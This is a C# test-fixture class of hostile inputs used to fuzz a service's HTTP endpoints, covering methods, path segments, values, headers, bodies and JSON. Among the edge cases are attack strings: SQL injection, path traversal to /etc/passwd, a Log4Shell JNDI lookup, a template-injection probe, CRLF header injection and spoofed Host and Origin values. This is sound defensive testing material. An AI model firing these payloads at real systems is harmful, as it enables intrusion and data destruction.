namespace MeetAi.Tests.Endpoints.Hostile;

/// <summary>
/// Values that have broken programs before, by the place that they are for. Latin-1 stands for bytes.
/// </summary>
internal static class Nasty
{
    private const string Id = "01a1fd79-0000-7000-8000-000000000000";

    private static readonly string manyLetters = new('x', 9000), manyDigits = new('9', 400), deep = new('[', 3000),
        list = string.Join(",", Many(300));

    public static readonly string[] Methods =
    [
        "GET", "POST", "PATCH", "DELETE", "PUT", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "G", "M-SEARCH",
        "PRI", "POST\t", "P\u00D6ST", new('M', 300),
    ];

    public static readonly string[] Segments =
    [
        "", ".", "..", "...", "%2e%2e", "%2E%2F", "%2f", "%5c", "%00", "%", "%zz", "%c0%ae", "%ff", "%ud800", "*", "~",
        ";a=b", "me", "api", "admin", "mcp", "0", "-1", "null", "undefined", "{roomId}", Id, Id.ToUpperInvariant(),
        Id[..35], Id + "0", manyDigits, manyLetters, "\u00E9", "a b", "a\tb", "<script>", "'", "\"", "\\", "|", "^",
        "`", "[::1]", "http:", "@", "?", "#", "&", "=", "+",
    ];

    public static readonly string[] Values =
    [
        "", "0", "-0", "-1", "1", "1.5", "1e9", "2147483648", "9223372036854775807", "9223372036854775808", manyDigits,
        "+1", "0x10", "%31", "\u0661", "true", "TRUE", "null", "NaN", "Infinity", "x", manyLetters, "%00", "%", "%zz",
        "%f", "%ff", "%c3%28", "%ed%a0%80", "%F0%9F%A6%91", "\u00E9", "a,b", "a;b", "a=b", "=", "&", "\"", "'", "\\",
        "*", "'; DROP TABLE messages; --", "%22OR%201=1", "../../etc/passwd", "${jndi:ldap://192.0.2.1/x}", "{{7*7}}",
        "\t", " ", Id, Id.ToUpperInvariant(), Id[1..], "mai_AAAABBBBCCCCDDDDEEEEFFFF", "Bearer", "Bearer ",
        "bearer mai_", "2026-02-30", "2026-01-01T00:00:00Z", "9999-12-31T23:59:60Z", "<b>", "&amp;", "\u007F",
        "\u0001", "W/\"x\"", "\"\"", "()", "NEAR(",
    ];

    public static readonly string[] Parameters =
    [
        "before", "after", "limit", "q", "name", "exclude", "sender_type", "view", "budget_tokens", "for", "replay",
        "presence", "ticket", "key", "sender", "keep_children", "active_after", "range", "status", "state", "content",
        "type", "id", "room", "rooms", "scopes", "url", "events", "secret", "params", "method", "arguments",
        "__proto__", "", "%00", "a[]", "LIMIT", "limit%00",
    ];

    public static readonly (string Name, string Value)[] Headers =
    [
        ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"), ("traceparent", "00-0-0-zz"),
        ("traceparent", "ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"), ("traceparent", manyLetters),
        ("tracestate", list), ("baggage", "a=%ff,b;c"), ("Last-Event-ID", Id), ("Last-Event-ID", "0"),
        ("Last-Event-ID", "\u00E9"), ("Last-Event-ID", manyDigits), ("Range", "bytes=0-1"),
        ("Range", "bytes=-0,1-,9-1"), ("Range", "bytes=" + list), ("If-Range", "\"x\""), ("If-Match", "*"),
        ("If-None-Match", "*"), ("If-None-Match", list), ("If-Modified-Since", "Sat, 31 Feb 2026 25:61:61 GMT"),
        ("Expect", "100-continue"), ("Expect", "cow"), ("Accept-Encoding", "gzip, br;q=0, *;q=2"),
        ("Accept-Encoding", list), ("Accept", "text/html"), ("Accept", "text/markdown;q=NaN"), ("Accept", "*/*;q=0"),
        ("Accept", list), ("Accept", "text/event-stream"), ("Accept-Language", "\u00E9;q=1"),
        ("Cookie", "session=x; $Version=1; a=\"b"), ("Cookie", manyLetters), ("Authorization", "Basic bWFsbG9yeTp4"),
        ("Authorization", "Bearer"), ("Authorization", manyLetters), ("Proxy-Authorization", "x"),
        ("Idempotency-Key", "once"), ("Idempotency-Key", "\"once\""), ("Idempotency-Key", "\u00E9"),
        ("Idempotency-Key", manyLetters), ("Origin", "null"), ("Origin", "https://evil.example"),
        ("Host", "evil.example"), ("Host", ""), ("X-Forwarded-For", "192.0.2.7, [::1]:x"),
        ("X-Forwarded-Proto", "javascript"), ("Forwarded", "for=x"), ("X-Request-Id", "\"}\r\nInjected: yes"),
        ("X-HTTP-Method-Override", "DELETE"), ("Connection", "close"), ("Connection", "keep-alive, Upgrade"),
        ("Connection", "Host, Authorization"), ("Upgrade", "h2c"), ("Upgrade", "websocket"),
        ("HTTP2-Settings", "AAMAAABkAAQAAP__"), ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", "x"),
        ("Sec-WebSocket-Protocol", list),
        ("Sec-WebSocket-Extensions", "permessage-deflate; server_max_window_bits=99"), ("TE", "trailers"),
        ("Trailer", "Content-Length"), ("Transfer-Encoding", "gzip, chunked"), ("Transfer-Encoding", "chunked"),
        ("Content-Encoding", "gzip"), ("Content-Range", "bytes 0-1/2"), ("Content-MD5", "x"), ("Priority", "u=9"),
        ("Mcp-Session-Id", "x"), ("MCP-Protocol-Version", "2026-07-28"), ("MCP-Protocol-Version", "1999"),
        ("Mcp-Method", "tools/call"), ("Mcp-Name", "=?base64?!!?="), (":path", "/"), ("", "x"), ("a b", "c"),
        ("X", "\0"), ("X-Long", manyLetters), ("\u00E9", "\u00E9"),
    ];

    public static readonly string[] Lengths =
    [
        "0", "1", "-1", "+2", "2,2", "0x2", "99999999999999999999", "9223372036854775807", "",
    ];

    public static readonly string[] Types =
    [
        "application/json", "application/json; charset=utf-16", "text/plain", "text/plain; charset=\"utf-8",
        "text/html", "", "multipart/form-data; boundary=x", "multipart/form-data", "application/x-www-form-urlencoded",
        ";", "a/b/c", "*/*", "application/x-ndjson", "application/json, text/plain", "application/json;" + manyLetters,
        "\u00E9/\u00E9",
    ];

    public static readonly string[] Bodies =
    [
        "", " ", "null", "[]", "{}", "5", "\"x\"", "{", "}", "\0", "\uFEFF{}", "{}{}", "a=b&c=d", manyLetters, deep,
        list, "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\n\r\n", "[{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\"}]",
        "{\"jsonrpc\":\"2.0\"}", "{\"jsonrpc\":2,\"id\":{},\"method\":[]}", new('x', 70_000),
    ];

    public static readonly string[] Json =
    [
        "null", "true", "false", "0", "-0", "-1", "1.5", "1e999", "-1e-999", manyDigits, "2147483648",
        "9223372036854775808", "\"\"", "\" \"", "\"x\"", "\"\\u0000\"", "\"\\ud800\"", "\"\\udc00\\ud800\"",
        "\"\\u202e\"", "\"\\u200b\"", "\"\uD83E\uDD91\"", "\"\\uffff\"", "\"\\x\"", "\"" + manyLetters + "\"", "[]",
        "{}", "[null]", "[[]]", "{\"a\":{}}", "[" + list.Length + "]", deep, "NaN", "Infinity", "undefined", "'x'", "",
        "\"", "/* */1", $"\"{Id}\"", $"\"{Id.ToUpperInvariant()}\"", "\"2026-02-30T00:00:00Z\"",
        "\"0001-01-01T00:00:00Z\"", "\"9999-12-31T23:59:59Z\"", "\"http://127.0.0.1/\"", "\"http://[::]:1/\"",
        "\"https://x.invalid/\"", "\"javascript:1\"", "\"\\n\"", "\"\u0001\"", "[\"read\",\"read\"]", "[\"*\"]",
        "[\"\\ud800\"]",
    ];

    public static string Of(string[] of, Random random) => of[random.Next(of.Length)];

    /// <summary>From anywhere.</summary>
    public static string Text(Random random)
        => Of(random.Next(3) switch { 0 => Values, 1 => Segments, _ => Json }, random);

    private static IEnumerable<string> Many(int count) => Enumerable.Range(0, count).Select(i => $"k{i}=v{i}");
}
